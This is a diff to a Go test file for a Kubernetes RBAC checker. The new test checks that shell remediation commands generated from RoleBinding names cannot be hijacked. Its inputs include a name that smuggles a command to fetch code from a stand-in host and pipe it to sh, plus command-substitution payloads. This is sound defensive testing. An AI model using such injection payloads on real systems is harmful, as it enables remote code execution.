@@ -1,6 +1,10 @@
 package rbac
 
 import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"slices"
 	"strings"
 	"testing"
 
@@ -31,6 +35,44 @@ func TestARoleIsNotHiddenByANameOfKubernetes(t *testing.T) {
 				t.Errorf("got %q", got)
 			}
 		})
+	}
+}
+
+// TestANameOfABindingIsNoCommand pastes the remedy of a binding into a shell: names of bindings may contain all but / and %.
+func TestANameOfABindingIsNoCommand(t *testing.T) {
+	for _, name := range []string{"x;curl${IFS}evil.example|sh;#", "$(>pwned)", "`>pwned`", "a b", "it's", "x\n::error::y", "-A", "\u202ex"} {
+		quoted, err := json.Marshal(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		documents := checktest.Document(rbacAPI, "RoleBinding", "namespace: sec-a, name: "+string(quoted),
+			"roleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: ["+authenticated+"]")
+		builder := facts.NewBuilder("test", testkit.Now())
+		for _, object := range testkit.Objects(t, documents) {
+			builder.Add(facts.Reduce(object))
+		}
+		for _, kind := range testkit.Kinds() {
+			builder.Covered(kind, "")
+		}
+		selected, err := check.Select(Checks(), []string{"rbac-cluster-admin-bound"}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		found, _, _ := check.Run(builder.Graph(), selected, check.DefaultParams())
+		if len(found) != 1 {
+			t.Fatalf("%q: %d findings, want 1", name, len(found))
+		}
+		code := strings.Split(string(found[0].Remediation), "`")
+		shell := exec.CommandContext(t.Context(), "bash", "-c", "kubectl() { printf '%s\\0' \"$@\"; }; "+code[len(code)-2])
+		shell.Dir = t.TempDir()
+		out, err := shell.Output()
+		words := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
+		if err != nil || words[len(words)-1] != name || !slices.Contains(words, "delete") || !slices.Contains(words, "rolebinding") {
+			t.Errorf("%q: bash reads %s as %q: %v", name, code[len(code)-2], words, err)
+		}
+		if files, err := os.ReadDir(shell.Dir); err != nil || len(files) > 0 {
+			t.Errorf("%q: the command ran and left %v, %v", name, files, err)
+		}
 	}
 }
 
